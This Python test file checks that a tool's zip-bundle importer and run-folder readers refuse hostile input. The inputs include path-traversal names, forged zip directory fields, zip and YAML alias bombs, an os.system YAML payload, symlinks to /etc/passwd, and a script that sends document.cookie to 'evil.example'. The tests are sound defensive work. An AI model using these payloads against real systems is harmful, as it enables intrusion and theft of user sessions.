"""A bundle of somebody who means harm is refused by name before anything of it is written; so is what lies in a folder."""

import json
import os
import re
import shutil
import struct
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from foreign import SOON_S, copied, everybody_ends, honest_run, refusal, zip_of
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from agentkd import canonical
from agentkd.artifacts import bundle
from agentkd.artifacts.bundle import unpack, verify_bundle, write_zip
from agentkd.artifacts.run_folder import RunFolder
from agentkd.cli.app import app
from agentkd.config import load_experiment
from agentkd.errors import AgentKDError, ArtifactError, ConfigError
from agentkd.report.packing import write_bundle
from agentkd.report.write import write_report

DIGEST = "ab" * 32
ARTIFACT = f"artifacts/ab/{DIGEST}.safetensors"


@pytest.fixture(scope="module")
def honest(tmp_path_factory: pytest.TempPathFactory) -> RunFolder:
    return honest_run(tmp_path_factory.mktemp("honest") / "run")


@pytest.fixture(scope="module")
def packed(honest: RunFolder, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("packed") / "run.zip"
    write_bundle(honest, out)
    return out


def contents(packed: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(packed) as archive:
        return {name: archive.read(name) for name in archive.namelist() if name != "manifest-sha256.txt"}


def refused(out: Path) -> str:
    """What is said against a bundle by both who read one; nothing is left where it would have been unpacked."""
    began = time.monotonic()
    place = out.parent / "place"
    place.mkdir(exist_ok=True)
    with pytest.raises(ArtifactError) as caught:
        unpack(out, place / "run")
    said = "\n".join(map(str, verify_bundle(out).problems))
    assert said and not list(place.iterdir()) and time.monotonic() - began < SOON_S
    assert said.splitlines()[0][:60] in str(caught.value)
    return said


NAMES = [
    "../escaped",
    "/etc/passwd",
    "a/../../b",
    "report/../../x",
    "report//x",
    "report/./x",
    "report",
    "report/",
    "report/a/b",
    "report/.hidden",
    "report/a\\b",
    "..\\escaped",
    "C:\\x",
    "C:x",
    "report/a\nb",
    "report/\x1b[2J",
    "report/\u202egnp.exe",
    "report/ä.md",
    "report/" + "x" * 300,
    "report/a:b",
    "report/ ",
    "journal.sqlite-wal",
    "journal.sqlite-journal",
    "Journal.sqlite",
    "JOURNAL.SQLITE",
    "study.db",
    "contact.json",
    "lock",
    "keys/visitors/registry.json",
    "checkpoints/" + "ab" * 32 + ".lesson.jsonl",
    "logs/agent-1.log",
    ".git/config",
    ".envrc",
    "agentkd.py",
    "conftest.py",
    f"artifacts/cd/{DIGEST}.safetensors",
    f"artifacts/ab/{DIGEST.upper()}.safetensors",
    f"artifacts/ab/{DIGEST}.incoming",
    f"artifacts/{DIGEST}.safetensors",
    f"artifacts/ab/{DIGEST}.safetensors/x",
    "artifacts/ab",
    "artifacts/ab/",
    "cards/../x.md",
    "cards/x.md",
]


@pytest.mark.parametrize("name", NAMES)
def test_a_name_that_no_bundle_has_is_refused(packed: Path, tmp_path: Path, name: str) -> None:
    zip_of(tmp_path / "evil.zip", contents(packed) | {name: b"x"})
    assert refused(tmp_path / "evil.zip") == f"{name[:100]!r}: is not a name of a file in a bundle"
    with pytest.raises(ArtifactError, match="is not written"):
        write_zip({name: b"x"}, tmp_path / "made.zip")
    assert not (tmp_path / "made.zip").exists()


def test_a_name_with_a_nought_is_refused_though_zip_files_end_there(packed: Path, tmp_path: Path) -> None:
    zip_of(tmp_path / "evil.zip", contents(packed) | {"report/abcd": b"x"})
    data = (tmp_path / "evil.zip").read_bytes().replace(b"report/abcd", b"report/a\0cd")
    (tmp_path / "evil.zip").write_bytes(data)
    assert "is not a name" in refused(tmp_path / "evil.zip")


def test_names_that_differ_by_case_are_refused(packed: Path, tmp_path: Path) -> None:
    zip_of(tmp_path / "evil.zip", contents(packed) | {"report/A.md": b"x", "report/a.md": b"y"})
    assert refused(tmp_path / "evil.zip") == "report/a.md: has the name of another file but for its capitals"


def test_a_strangers_pages_stay_in_the_bundle_and_that_is_said(packed: Path, tmp_path: Path) -> None:
    page = b"<script>fetch('http://evil.example/' + document.cookie)</script>"
    pages = {"report/report.html": page, "report/more.svg": page, "cards/0123456789ab.md": page}
    write_zip(contents(packed) | pages, tmp_path / "theirs.zip")
    num_pages = len({*pages, *(name for name in contents(packed) if name.startswith(("report/", "cards/")))})
    assert verify_bundle(tmp_path / "theirs.zip").problems == ()
    outcome = CliRunner().invoke(app, ["import", str(tmp_path / "theirs.zip"), str(tmp_path / "run")])
    assert outcome.exit_code == 0, outcome.output
    said = " ".join(outcome.output.split())
    assert f"{num_pages} files in report/ and cards/ stay in the bundle" in said
    assert f"agentkd report {tmp_path / 'run'}" in said
    files = [path for path in (tmp_path / "run").rglob("*") if path.is_file()]
    assert files and not any(page in path.read_bytes() for path in files)
    assert not (tmp_path / "run" / "report").exists() and not (tmp_path / "run" / "cards").exists()
    made = write_report(RunFolder(tmp_path / "run")).page.read_bytes()
    assert b"evil.example" not in made and b"<html" in made
    write_bundle(RunFolder(tmp_path / "run"), tmp_path / "again.zip")
    assert verify_bundle(tmp_path / "again.zip").problems == ()


def _rewritten(packed: Path, out: Path, change: Callable[[bytearray, int], None]) -> None:
    """The bundle with something changed in the directory's entry of its journal."""
    data = bytearray(packed.read_bytes())
    at = data.rindex(b"journal.sqlite", 0, data.rindex(b"manifest-sha256.txt"))
    change(data, at - 46)
    out.write_bytes(data)


def _set(form: str, offset: int, value: int) -> Callable[[bytearray, int], None]:
    return lambda data, at: struct.pack_into(form, data, at + offset, value)


FIELDS = {
    "encrypted": (_set("<H", 8, 9), "not packed, as"),
    "deflated": (_set("<H", 10, 8), "not packed, as"),
    "bzip2": (_set("<H", 10, 12), "not packed, as"),
    "a method nobody knows": (_set("<H", 10, 99), "not packed, as"),
    "larger than it is": (_set("<I", 24, 2**31), "says more"),
    "packed larger than it is": (_set("<I", 20, 2**31), "not packed, as"),
    "somewhere else": (_set("<I", 42, 10), "no sound zip"),
    "beyond the end": (_set("<I", 42, 2**32 - 2), "no sound zip"),
    "a link": (_set("<I", 38, 0o120777 << 16), "of the bundle itself"),
    "a device": (_set("<I", 38, 0o020666 << 16), "of the bundle itself"),
    "a folder": (_set("<I", 38, 0o040755 << 16 | 16), "of the bundle itself"),
    "of another system": (_set("<B", 5, 0), "of the bundle itself"),
    "another time": (_set("<H", 12, 1), "of the bundle itself"),
    "another checksum": (_set("<I", 16, 1), "no sound zip|Bad CRC"),
    "another name's length": (_set("<H", 28, 7), "no sound zip|is not a name"),
    "more beside it": (_set("<H", 30, 60_000), "no sound zip"),
}


@pytest.mark.parametrize(("field", "text"), FIELDS.values(), ids=FIELDS)
def test_a_directory_that_lies_is_refused(
    packed: Path, tmp_path: Path, field: Callable[[bytearray, int], None], text: str
) -> None:
    _rewritten(packed, tmp_path / "evil.zip", field)
    assert re.search(text, refused(tmp_path / "evil.zip"))


def test_entries_that_share_their_bytes_are_refused_before_they_are_read(packed: Path, tmp_path: Path) -> None:
    """A zip bomb without compression: many names for the same large file."""
    large, names = b"\0" * 10_000_000, [f"report/f{number:04}" for number in range(2_000)]
    with zipfile.ZipFile(tmp_path / "evil.zip", "w") as archive:
        archive.writestr("journal.sqlite", large)
        archive.writestr("manifest-sha256.txt", "")
        for name in names:
            info = zipfile.ZipInfo(name)
            info.file_size = info.compress_size = len(large)
            info.CRC, info.header_offset = archive.getinfo("journal.sqlite").CRC, 0
            archive.filelist.append(info)
        archive._didModify = True
    assert "says more" in refused(tmp_path / "evil.zip")


def test_too_many_entries_are_refused_without_being_held(packed: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    read = 0
    names = bundle._read_names

    def counting(stream: bytes) -> object:
        nonlocal read
        for name in names(stream):
            read += 1
            yield name

    monkeypatch.setattr(bundle, "_read_names", counting)
    monkeypatch.setattr(bundle, "MAX_FILES", 50)
    zip_of(tmp_path / "evil.zip", {f"report/f{number:04}": b"" for number in range(1_000)})
    assert "too many files" in refused(tmp_path / "evil.zip") and read <= 2 * 51


@pytest.mark.parametrize("count", [2**16 - 1, 60_000, 0])
def test_a_count_of_entries_that_is_none_is_refused(packed: Path, tmp_path: Path, count: int) -> None:
    data = bytearray(packed.read_bytes())
    struct.pack_into("<2H", data, len(data) - 14, count, count)
    (tmp_path / "evil.zip").write_bytes(data)
    assert re.search("no sound zip|is missing", refused(tmp_path / "evil.zip"))


def test_an_end_that_points_anywhere_is_refused(packed: Path, tmp_path: Path) -> None:
    for offset in range(22):
        for value in (0, 0xFF):
            data = bytearray(packed.read_bytes())
            data[len(data) - 22 + offset] = value
            if data != packed.read_bytes():
                (tmp_path / "evil.zip").write_bytes(data)
                refused(tmp_path / "evil.zip")


def test_a_large_zips_end_that_points_anywhere_is_refused(packed: Path, tmp_path: Path) -> None:
    data = packed.read_bytes()
    for count, size, at in ((2**63, 2**63, 0), (5, 2**62, 2**62), (2**40, 0, 0)):
        large = struct.pack("<4sQ2H2I4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, size, at)
        locator = struct.pack("<4sIQI", b"PK\6\7", 0, len(data) - 22, 1)
        (tmp_path / "evil.zip").write_bytes(data[:-22] + large + locator + data[-22:])
        assert "no sound zip" in refused(tmp_path / "evil.zip") or count == 2**40


@pytest.mark.parametrize("extra", [b"", b"before"])
def test_what_stands_before_behind_or_between_is_refused(packed: Path, tmp_path: Path, extra: bytes) -> None:
    data = packed.read_bytes()
    (tmp_path / "evil.zip").write_bytes(extra + data if extra else data + b"behind")
    refused(tmp_path / "evil.zip")


def test_a_manifest_that_is_none_is_refused(packed: Path, tmp_path: Path) -> None:
    files = contents(packed)
    for manifest, text in ((b"\xff\xfe", "no sound zip"), (b"x" * 200_000, "too long"), (b"x\n" * 50, "is not in the manifest")):
        with zipfile.ZipFile(tmp_path / "evil.zip", "w") as archive:
            for name, data in sorted({**files, "manifest-sha256.txt": manifest}.items()):
                archive.writestr(name, data)
        assert text in refused(tmp_path / "evil.zip")


def test_a_journal_in_a_bundle_that_is_none_or_not_whole_is_refused(packed: Path, tmp_path: Path) -> None:
    files = contents(packed)
    log = bytearray(files["journal.sqlite"])
    log[18:20] = b"\2\2"
    damage = {"log": bytes(log), "nothing": b"", "text": b"no journal" * 500, "half": files["journal.sqlite"][:8192]}
    for name, journal in damage.items():
        write_zip(files | {"journal.sqlite": journal}, tmp_path / "evil.zip")
        said = refused(tmp_path / "evil.zip")
        assert said.startswith("journal.sqlite: ") and "/tmp" not in said.replace(str(tmp_path), ""), name
    del files["journal.sqlite"]
    write_zip(files, tmp_path / "evil.zip")
    assert refused(tmp_path / "evil.zip") == "journal.sqlite: is not in the bundle"


BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{after}: &{after} [{', '.join([f'*{before}'] * 9)}]\n" for before, after in zip("abcdefgh", "bcdefghi", strict=True)
)
YAML = {
    "aliases": (BOMB, "stands for more than"),
    "merged": (
        "a: &a {x: 1}\n"
        + "".join(f"b{n}: &b{n} {{<<: [*{p}, *{p}]}}\n" for n, p in ((n, f"b{n - 1}" if n else "a") for n in range(30))),
        "stands for more than",
    ),
    "nested": ("[" * 100_000, "nested deeper"),
    "nested by lines": ("- " * 5_000 + "x", "nested deeper"),
    "itself": ("&a [*a]", "holds itself"),
    "a program": ("!!python/object/apply:os.system [id]", "could not determine a constructor"),
    "a date that is none": ("a: 2001-99-99", "month"),
    "a number in sixties": ("a: 1" + ":1" * 300_000, "a number has"),
    "large": ("x" * (2**20 + 1), "characters"),
    "not UTF-8": ("\udcff", "decode"),
    "another experiment": ("name: other\n", "another experiment"),
    "nothing": ("", "another experiment"),
    "a key that is none": ("{[a]: 1}", "unhashable"),
    "a truth that is none": ("a: !!bool maybe", "not of the kind"),
}


@pytest.mark.parametrize(("text", "says"), YAML.values(), ids=YAML)
def test_an_experiment_file_that_does_harm_is_refused_by_all_who_read_it(
    honest: RunFolder, packed: Path, tmp_path: Path, text: str, says: str
) -> None:
    data = text.encode(errors="surrogateescape")
    write_zip(contents(packed) | {"experiment.yaml": data}, tmp_path / "evil.zip")
    assert refused(tmp_path / "evil.zip").startswith("experiment.yaml: ")
    folder = copied(honest, tmp_path / "run")
    folder.experiment.write_bytes(data)
    assert re.search(says, refusal(folder))
    with pytest.raises(ConfigError, match=r"experiment\.yaml"):
        load_experiment(folder.experiment)


def test_an_experiment_file_may_be_written_otherwise_and_launched_otherwise(honest: RunFolder, tmp_path: Path) -> None:
    folder = copied(honest, tmp_path / "run")
    folder.experiment.write_text("# mine\n" + folder.experiment.read_text() + "\n", encoding="utf-8")
    assert refusal(folder) == ""
    folder.experiment.write_text(re.sub(r"devices: .*", "devices: cpu:7", folder.experiment.read_text()), encoding="utf-8")
    assert "cpu:7" in folder.experiment.read_text() and refusal(folder) == ""
    folder.experiment.write_text(folder.experiment.read_text().replace("name: honest", "name: other"), encoding="utf-8")
    assert "another experiment" in refusal(folder)


def _link(path: Path, to: Path) -> None:
    path.unlink()
    path.symlink_to(to)


def _first(folder: RunFolder) -> Path:
    return sorted(folder.store.place.rglob("*.safetensors"))[0]


def _pipe(path: Path) -> None:
    path.unlink(missing_ok=True)
    os.mkfifo(path)


FOLDERS: dict[str, tuple[Callable[[RunFolder], None], str]] = {
    "a link": (lambda folder: _link(_first(folder), folder.journal), "is a link"),
    "a link to nothing": (lambda folder: _link(_first(folder), folder.place / "nothing"), "is a link"),
    "a link to itself": (lambda folder: _link(_first(folder), _first(folder)), "is a link"),
    "a link that never ends": (lambda folder: _link(_first(folder), Path("/dev/zero")), "is a link"),
    "a linked folder": (lambda folder: (folder.store.place / "zz").symlink_to(folder.place), "is not named"),
    "a pipe": (lambda folder: _pipe(_first(folder)), "is no file"),
    "a folder for a file": (
        lambda folder: (folder.store.place / "00" / f"{'00' * 32}.safetensors").mkdir(parents=True),
        "is no file",
    ),
    "folders in folders": (lambda folder: (folder.store.place / "00" / "a" / "b" / "c").mkdir(parents=True), "is not named"),
    "a pipe for an experiment": (lambda folder: _pipe(folder.experiment), "experiment.yaml: is a pipe"),
    "a link for an experiment": (lambda folder: _link(folder.experiment, Path("/dev/zero")), "experiment.yaml: is a link"),
    "a pipe in the report": (lambda folder: _pipe(folder.report / "table.md"), "table.md: is a pipe"),
    "a link in the report": (lambda folder: _link(folder.report / "table.md", Path("/etc/passwd")), "table.md: is a link"),
    "a folder in the report": (lambda folder: (folder.report / "more").mkdir(), ""),
    "odd names in the report": (lambda folder: (folder.report / "a\\b\n").write_bytes(b"x"), ""),
    "no journal": (lambda folder: folder.journal.unlink(), "is not a run folder"),
    "a pipe for a journal": (lambda folder: _pipe(folder.journal), "journal.sqlite is a pipe"),
}


@pytest.mark.parametrize(("attack", "text"), FOLDERS.values(), ids=FOLDERS)
def test_what_lies_in_a_folder_and_is_no_file_is_not_read(
    honest: RunFolder, tmp_path: Path, attack: Callable[[RunFolder], None], text: str
) -> None:
    folder = copied(honest, tmp_path / "run")
    attack(folder)
    said = refusal(folder)
    assert re.search(text, said) if text else not said, said
    everybody_ends(folder)
    if (made := tmp_path / "made.zip").exists():
        assert b"root:" not in made.read_bytes() and all(map(bundle.may_be_in, contents(made)))


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_a_mutated_bundle_is_refused_or_as_it_was(packed: Path, tmp_path: Path, data: st.DataObject) -> None:
    octets = bytearray(packed.read_bytes())
    tail = len(octets) - octets.index(b"PK\1\2")
    for _ in range(data.draw(st.integers(1, 4))):
        at = len(octets) - 1 - data.draw(st.integers(0, min(tail, len(octets) - 1)))
        kind = data.draw(st.sampled_from(["set", "cut", "put", "field"]))
        if kind == "set":
            octets[at] = data.draw(st.integers(0, 255))
        elif kind == "cut":
            del octets[at : at + data.draw(st.integers(1, 30))]
        elif kind == "put":
            octets[at:at] = data.draw(st.binary(min_size=1, max_size=30))
        else:
            octets[at : at + 4] = struct.pack("<I", data.draw(st.sampled_from([0, 1, 2**16 - 1, 2**31, 2**32 - 1])))
        if not octets:
            break
    (tmp_path / "mutated.zip").write_bytes(octets)
    if octets == packed.read_bytes():
        assert not verify_bundle(tmp_path / "mutated.zip").problems
    else:
        refused(tmp_path / "mutated.zip")


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_a_mutated_file_in_a_bundle_that_fits_otherwise_is_refused_or_harmless(
    packed: Path, tmp_path: Path, data: st.DataObject
) -> None:
    files = contents(packed)
    name = data.draw(st.sampled_from(sorted(name for name in files if not name.startswith("artifacts"))))
    octets = bytearray(files[name])
    for _ in range(data.draw(st.integers(1, 8))):
        octets[data.draw(st.integers(0, len(octets) - 1))] = data.draw(st.integers(0, 255))
    write_zip(files | {name: bytes(octets)}, tmp_path / "mutated.zip")
    found = verify_bundle(tmp_path / "mutated.zip")
    assert json.dumps(found.as_data()) and canonical.encode(found.as_data())
    try:
        unpack(tmp_path / "mutated.zip", tmp_path / "place" / "run")
    except AgentKDError:
        assert found.problems and not list((tmp_path / "place").glob("*"))
        return
    everybody_ends(RunFolder(tmp_path / "place" / "run"))
    shutil.rmtree(tmp_path / "place")
